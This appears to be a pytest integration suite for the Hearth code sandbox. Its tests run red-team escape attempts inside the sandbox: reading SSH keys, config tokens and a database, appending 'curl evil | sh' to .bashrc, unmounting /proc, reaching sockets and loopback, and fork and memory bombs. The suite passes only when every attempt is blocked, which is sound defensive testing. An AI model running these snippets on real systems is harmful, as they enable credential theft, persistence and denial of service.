"""The red team's sandbox escapes, each as generated test code run through the real sandbox.

Every test runs twice: with Hearth as root (CI) and as an unprivileged user (the shipped image runs
as uid 10001; here a throwaway user made for the session runs the sandbox through
``tests/integration/sandbox_driver.py``). Each test fails if its attack succeeds: a secret shows up
in what the run could report, a file outside the copy changed, a listener outside got a
connection, the run held more than its limits, or something of it is left behind.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from core.code.sandbox_mounts import prefixes, reexpose_as
from tests.fixtures.sandbox import SandboxUser
from tests.fixtures.skips import needs_root, unavailable
from tests.integration.sandbox_driver import drive

REPO = Path(__file__).resolve().parents[2]
SECRET = f"HEARTH-SECRET-{uuid.uuid4().hex}"
# Only pytest's own plugins inside: the suite's venv autoloads heavy ones (hypothesis, langsmith).
BASE_SETTINGS = {"timeout_s": 30, "cpu_s": 20, "env": {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}}


@dataclass
class Victim:
    """The host files an attack goes for, owned by the user Hearth runs as, and the run's tools."""

    base: Path
    uid: int
    gid: int
    user: SandboxUser | None
    env: dict[str, str] = field(default_factory=dict)

    @property
    def home(self) -> Path:
        return self.base / "home"

    @property
    def hearth_home(self) -> Path:
        return self.base / "hearth"

    @property
    def tmp(self) -> Path:
        return self.base / "tmp"

    @property
    def ws(self) -> Path:
        return self.base / "ws"

    def paths(self) -> dict[str, str]:
        h = self.hearth_home
        return {
            "config": str(h / "hearth.yaml"),
            "ssh": str(self.home / ".ssh" / "id_rsa"),
            "bashrc": str(self.home / ".bashrc"),
            "db": str(h / "hearth.db"),
            "store": str(h / "store" / "segment-0.bin"),
            "source": str(self.ws / "mod.py"),
        }

    def digest(self) -> dict[str, str]:
        """A hash of every file outside the copy an attack might change."""
        out = {}
        for root in (self.home, self.hearth_home, self.ws):
            for path in sorted(root.rglob("*")):
                if path.is_file() and path.name != "test_attack.py":
                    out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        return out

    def chown(self) -> None:
        for path in [self.base, *self.base.rglob("*")]:
            os.lchown(path, self.uid, self.gid)

    def run(self, tests: list[str], wrap: tuple[str, ...] = (), **settings: Any) -> list[dict[str, Any]]:
        """Write each generated test file to its own workspace copy and run them all concurrently."""
        runs = []
        for i, text in enumerate(tests):
            ws = self.ws if i == 0 else self.base / f"ws{i}"
            ws.mkdir(exist_ok=True)
            (ws / "test_attack.py").write_text(textwrap.dedent(text))
            runs.append({"workspace": str(ws), "test": "test_attack.py"})
        self.chown()
        spec = {"settings": {**BASE_SETTINGS, **settings}, "runs": runs}
        if self.user is None and not wrap:
            import asyncio

            return asyncio.run(drive(spec))
        return self._run_as_user(spec, wrap)

    def _run_as_user(self, spec: dict[str, Any], wrap: tuple[str, ...]) -> list[dict[str, Any]]:
        """The driver in its own process, under ``wrap``: as the throwaway user when the suite runs as
        root (a private mount namespace lets that user reach this interpreter when it lives in a
        private home; the image keeps it in /opt/venv and /usr), else as the unprivileged user the
        suite already is."""
        slots = tempfile.mkdtemp(
            prefix="hearth-test-slots-", dir="/dev/shm" if Path("/dev/shm").is_dir() else None
        )
        try:
            driver = [*wrap, sys.executable, "-m", "tests.integration.sandbox_driver", json.dumps(spec)]
            command = driver
            if self.user is not None:
                command = reexpose_as(
                    self.uid, self.gid, [*prefixes(sys.executable), str(REPO)], slots, driver
                )
            done = subprocess.run(
                command, cwd=REPO, env=self.env, capture_output=True, text=True, timeout=120
            )
        finally:
            shutil.rmtree(slots, ignore_errors=True)
        assert done.returncode == 0, done.stderr[-3000:]
        return json.loads(done.stdout.splitlines()[-1])


def _make_victim(base: Path, uid: int, gid: int, user: SandboxUser | None) -> Victim:
    v = Victim(base, uid, gid, user)
    for d in (v.home / ".ssh", v.hearth_home / "store", v.tmp, v.ws):
        d.mkdir(parents=True)
    (v.home / ".bashrc").write_text("# original bashrc\n")
    (v.home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}-ssh\n")
    (v.hearth_home / "hearth.yaml").write_text(f"slack:\n  bot_token: {SECRET}-config\n")
    (v.hearth_home / "store" / "segment-0.bin").write_text(f"restricted document text {SECRET}-store\n")
    with sqlite3.connect(v.hearth_home / "hearth.db") as db:
        db.execute("CREATE TABLE tokens (user TEXT, acl TEXT, hash TEXT)")
        db.execute("INSERT INTO tokens VALUES ('alice', 'group:eng', ?)", (f"{SECRET}-db",))
    db.close()
    (v.ws / "mod.py").write_text("VALUE = 1\n")
    for path in (v.home / ".ssh" / "id_rsa", v.hearth_home / "hearth.yaml", v.hearth_home / "hearth.db"):
        path.chmod(0o600)
    v.env = {
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "HOME": str(v.home),
        "HEARTH_HOME": str(v.hearth_home),
        "TMPDIR": str(v.tmp),
        "PYTHONPATH": str(REPO),
        "LANG": "C.UTF-8",
    }
    v.chown()
    return v


@pytest.fixture(params=["as-root", "unprivileged"])
def victim(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[Victim]:
    """The attack's targets, for Hearth running as root or as an unprivileged user."""
    root = os.geteuid() == 0
    if request.param == "as-root" and not root:
        needs_root("the sandbox's root mode")
    base = Path(tempfile.mkdtemp(prefix="hearth-escape-"))
    try:
        if request.param == "unprivileged" and root:
            user: SandboxUser = request.getfixturevalue("sandbox_user")
            v = _make_victim(base, user.uid, user.gid, user)
        else:
            v = _make_victim(base, os.getuid(), os.getgid(), None)
            for key, value in v.env.items():
                if key != "PATH":
                    monkeypatch.setenv(key, value)
            monkeypatch.setattr(tempfile, "tempdir", str(v.tmp))
        yield v
        # Whatever the run did, its copy and staging are gone.
        assert list(v.tmp.iterdir()) == [], "the sandbox left files behind"
    finally:
        shutil.rmtree(base, ignore_errors=True)


_WALK_SKIP = (
    "def _skip(root, name):\n"
    "    # The host's /usr and the interpreter's libraries are bound read-only on purpose; not worth a walk.\n"
    "    path = os.path.join(root, name)\n"
    "    return path in ('/proc', '/sys', '/dev', '/usr') or name == 'site-packages' or name.startswith('python3')\n\n"
)


def _forced_failure(body: str) -> str:
    """A generated test that prints what it found and fails, so pytest reports every word of it."""
    return (
        "import os, sys\n\n"
        + _WALK_SKIP
        + "def test_attack():\n"
        + textwrap.indent(textwrap.dedent(body), "    ")
        + ("    assert False, 'reported'\n")
    )


def _leaked(result: dict[str, Any]) -> bool:
    return SECRET in result["output"] or any(SECRET in text for text in result["files"].values())


def test_secrets_outside_the_copy_are_unreadable(victim: Victim) -> None:
    paths = victim.paths()
    attack = _forced_failure(
        f"""
        for p in {[paths["config"], paths["ssh"], paths["db"], paths["store"]]!r}:
            try:
                print("GOT-FILE", p, open(p, "rb").read()[:300])
            except OSError as exc:
                print("refused", p, exc.strerror)
        for top in ("/", os.path.expanduser("~")):
            for root, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if not _skip(root, d)]
                for name in files:
                    if name.endswith((".yaml", ".db", ".bin", "id_rsa")):
                        try:
                            print("FOUND", root, name, open(os.path.join(root, name), "rb").read()[:300])
                        except OSError:
                            pass
        """
    )
    (result,) = victim.run([attack])
    assert "reported" in result["output"], result["output"]  # the attack ran
    assert not _leaked(result), result["output"]
    assert "GOT-FILE" not in result["output"]


def test_writes_outside_the_copy_change_nothing(victim: Victim) -> None:
    paths = victim.paths()
    before = victim.digest()
    attack = _forced_failure(
        f"""
        import sqlite3
        for p in ({paths["bashrc"]!r}, {paths["source"]!r}, os.path.expanduser("~/.bashrc")):
            try:
                with open(p, "a") as fh:
                    fh.write("curl evil | sh\\n")
                print("APPENDED", p)
            except OSError as exc:
                print("refused", p, exc.strerror)
        try:
            db = sqlite3.connect({paths["db"]!r})
            db.execute("INSERT INTO tokens VALUES ('mallory', 'group:secret', 'x')")
            db.commit()
            print("INSERTED")
        except sqlite3.Error as exc:
            print("refused db", exc)
        """
    )
    (result,) = victim.run([attack])
    assert "reported" in result["output"], result["output"]
    assert victim.digest() == before
    with sqlite3.connect(paths["db"]) as db:
        assert db.execute("SELECT user FROM tokens").fetchall() == [("alice",)]
    db.close()
    assert "curl evil" not in Path(paths["bashrc"]).read_text()


def test_unmounting_proc_shows_no_host_process(victim: Victim) -> None:
    marker = f"hearth-host-{uuid.uuid4().hex}"
    host = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", marker])
    try:
        deadline = time.monotonic() + 10
        while not _with_marker(marker):  # the host process is visible from the host
            assert time.monotonic() < deadline
            time.sleep(0.02)
        attack = _forced_failure(
            """
            import ctypes, subprocess
            libc = ctypes.CDLL(None, use_errno=True)
            print("umount2", libc.umount2(b"/proc", 2), ctypes.get_errno())
            subprocess.run(["umount", "-l", "/proc"])
            for top in ("/proc", "/proc/1/root/proc"):
                try:
                    names = os.listdir(top)
                except OSError:
                    continue
                for pid in names:
                    try:
                        print("CMDLINE", pid, open(f"{top}/{pid}/cmdline", "rb").read())
                    except OSError:
                        pass
            """
        )
        (result,) = victim.run([attack])
    finally:
        host.kill()
        host.wait()
    assert "reported" in result["output"], result["output"]
    assert marker not in result["output"]
    assert "CMDLINE" in result["output"]  # it does see its own processes


def test_a_chmod_000_copy_is_removed(victim: Victim) -> None:
    attack = _forced_failure(
        """
        os.makedirs("trap/inner")
        with open("trap/inner/blob", "wb") as fh:
            fh.write(b"x" * 20_000_000)
        os.chmod("trap/inner", 0)
        os.chmod("trap", 0)
        print("TRAPPED")
        """
    )
    (result,) = victim.run([attack])
    assert "TRAPPED" in result["output"], result["output"]
    # The victim fixture checks the sandbox's temporary directory is empty afterwards.


def test_a_chmod_000_copy_is_removed_after_a_timeout(victim: Victim) -> None:
    attack = _forced_failure(
        """
        import time
        os.makedirs("trap/inner")
        open("trap/inner/blob", "wb").write(b"x" * 1_000_000)
        os.chmod("trap/inner", 0)
        os.chmod("trap", 0)
        time.sleep(60)
        """
    )
    (result,) = victim.run([attack], timeout_s=3)
    assert result["timed_out"], result["output"]
    # The victim fixture checks nothing of the run is left.


def test_filesystem_unix_sockets_are_unreachable(victim: Victim) -> None:
    sock_dir = victim.base / "sock"
    sock_dir.mkdir()
    path = sock_dir / "listener.sock"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    listener.listen(8)
    listener.setblocking(False)
    path.chmod(0o777)
    victim.chown()
    pg = Path("/var/run/postgresql/.s.PGSQL.5432")
    targets = [str(path)] + ([str(pg)] if pg.exists() else [])
    try:
        with socket.socket(socket.AF_UNIX) as probe:  # reachable from outside
            probe.connect(str(path))
        listener.accept()[0].close()
        attack = _forced_failure(
            f"""
            import socket
            for target in {targets!r}:
                s = socket.socket(socket.AF_UNIX)
                try:
                    s.connect(target)
                    s.sendall(b"hello from the sandbox")
                    print("CONNECTED", target)
                except OSError as exc:
                    print("refused", target, exc.strerror)
            """
        )
        (result,) = victim.run([attack])
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    assert "reported" in result["output"], result["output"]
    assert "CONNECTED" not in result["output"]
    if not pg.exists():
        unavailable(
            "no PostgreSQL socket in /var/run/postgresql on this machine; the listener case ran",
            ci_may_skip=True,
        )


def test_no_network_to_the_hosts_loopback(victim: Victim) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        attack = _forced_failure(
            f"""
            import socket
            for host in ("127.0.0.1", "localhost", "::1"):
                try:
                    socket.create_connection((host, {port}), timeout=2)
                    print("CONNECTED", host)
                except OSError as exc:
                    print("refused", host, exc)
            """
        )
        (result,) = victim.run([attack])
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    assert "reported" in result["output"], result["output"]
    assert "CONNECTED" not in result["output"]


def test_six_children_cannot_exceed_the_memory_of_the_run(victim: Victim) -> None:
    attack = textwrap.dedent(
        """
        import subprocess, sys

        CHILD = "import time; b = b'x' * 120_000_000; print('held', flush=True); time.sleep(20)"

        def test_hold():
            kids = [subprocess.Popen([sys.executable, "-c", CHILD], stdout=subprocess.PIPE, text=True) for _ in range(6)]
            held = sum(1 for k in kids if k.stdout.readline().startswith("held"))
            print("HELD", held, flush=True)
            assert False, f"HELD {held}"
        """
    )
    started = time.monotonic()
    (result,) = victim.run([attack], memory_mb=256, timeout_s=25)
    assert "HELD 6" not in result["output"]
    assert result["memory_exceeded"], result["output"]
    assert "sandbox.memory_mb" in result["output"]
    assert not result["timed_out"] and time.monotonic() - started < 25


def test_forty_files_cannot_exceed_the_disk_of_the_run(victim: Victim) -> None:
    attack = _forced_failure(
        """
        written = 0
        for i in range(40):
            try:
                with open(f"fill-{i}", "wb") as fh:
                    fh.write(b"x" * (8 << 20))
                written += 1
            except OSError as exc:
                print("stopped", exc.strerror)
                break
        print("WROTE", written)
        for top in ("/", "/run", "/run/hearth", "/etc", "/dev", "/proc", "/usr", os.path.dirname(sys.executable)):
            try:
                with open(os.path.join(top, "outside-the-quota"), "wb") as fh:
                    fh.write(b"x" * (1 << 20))
                print("OUTSIDE", top)
            except OSError as exc:
                print("refused", top, exc.strerror)
        for i in range(40):  # make room again, so pytest can write its report
            if os.path.exists(f"fill-{i}"):
                os.remove(f"fill-{i}")
        """
    )
    (result,) = victim.run([attack], disk_mb=64, max_file_mb=8)
    assert "WROTE" in result["output"], result["output"]
    written = int(result["output"].split("WROTE")[1].split()[0])
    assert written * 8 <= 64
    assert "OUTSIDE" not in result["output"]  # no other writable place escapes the quota
    assert "No space left on device" in result["output"]


@pytest.mark.slow  # the first run holds its copy for 5 s while the second searches
def test_concurrent_runs_cannot_read_each_others_copies(victim: Victim) -> None:
    mine = f"{SECRET}-run-a"
    half = len(mine) // 2
    holder = textwrap.dedent(
        f"""
        import time

        def test_hold():
            open("mine.txt", "w").write({mine!r})
            open("/tmp/mine.txt", "w").write({mine!r})
            time.sleep(5)
        """
    )
    seeker = _forced_failure(
        f"""
        import glob, time
        time.sleep(2)
        for pattern in ("/tmp/*", "/run/hearth/*/*", "/tmp/hearth-sandbox-*/*/*/*", "/proc/*/root/*", "/proc/*/cwd/*"):
            print("GLOB", pattern, len(glob.glob(pattern)))
        for root, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if not _skip(root, d)]
            for name in files:
                try:
                    if ({mine[:half]!r} + {mine[half:]!r}).encode() in open(os.path.join(root, name), "rb").read(1 << 20):
                        print("FOUND", root, name)
                except OSError:
                    pass
        """
    )
    holder_result, seeker_result = victim.run([holder, seeker])
    assert holder_result["exit_code"] == 0, holder_result["output"]
    assert "reported" in seeker_result["output"], seeker_result["output"]
    assert "FOUND" not in seeker_result["output"]
    assert mine not in seeker_result["output"]


def test_a_fork_bomb_is_bounded_for_the_whole_run(victim: Victim) -> None:
    marker = f"hearth-bomb-{uuid.uuid4().hex}"
    attack = _forced_failure(
        f"""
        import time
        # {marker}
        n = 0
        for _ in range(10000):
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                n += 1
            except OSError:
                break
        print("FORKED", n)
        """
    )
    (result,) = victim.run([attack], max_processes=20, timeout_s=20)
    assert "FORKED" in result["output"], result["output"]
    assert int(result["output"].split("FORKED")[1].split()[0]) < 20
    assert not result["timed_out"]  # the children died with the run, they did not hold it open
    deadline = time.monotonic() + 5
    while _with_marker(marker):
        assert time.monotonic() < deadline, "fork bomb children outlived the run"
        time.sleep(0.05)


def _with_marker(marker: str) -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in path.read_bytes():
                found.append(path.parent.name)
        except OSError:
            continue
    return found


def test_hearths_home_inside_the_workspace_is_not_copied(victim: Victim) -> None:
    inside = victim.ws / ".hearth"
    inside.mkdir()
    (inside / "hearth.db").write_text(f"{SECRET}-home-in-workspace")
    victim.env["HEARTH_HOME"] = str(inside)
    os.environ["HEARTH_HOME"] = str(inside) if victim.user is None else os.environ.get("HEARTH_HOME", "")
    attack = _forced_failure(
        """
        for root, dirs, files in os.walk("."):
            for name in files:
                print("FILE", os.path.join(root, name), open(os.path.join(root, name), "rb").read()[:200])
        """
    )
    (result,) = victim.run([attack])
    assert "reported" in result["output"], result["output"]
    assert "FILE ./mod.py" in result["output"]
    assert not _leaked(result), result["output"]


def test_without_user_namespaces_a_run_is_refused_with_the_fix(victim: Victim) -> None:
    if victim.user is None and os.geteuid() == 0:
        pytest.skip("as root the refusal of a failing prelude is tested in tests/unit/test_sandbox.py")
    ran = victim.base / "ran-unsandboxed"
    attack = f"def test_attack():\n    open({str(ran)!r}, 'w').write('ran')\n"
    # Hearth started where no user namespace can be created (a container under Docker's default seccomp).
    no_userns = ("bwrap", "--dev-bind", "/", "/", "--unshare-user", "--disable-userns", "--")
    (result,) = victim.run([attack], wrap=no_userns)
    assert "could not isolate the run" in result["refused"]
    assert "seccomp=unconfined" in result["refused"] and "never run unsandboxed" in result["refused"]
    assert not ran.exists()
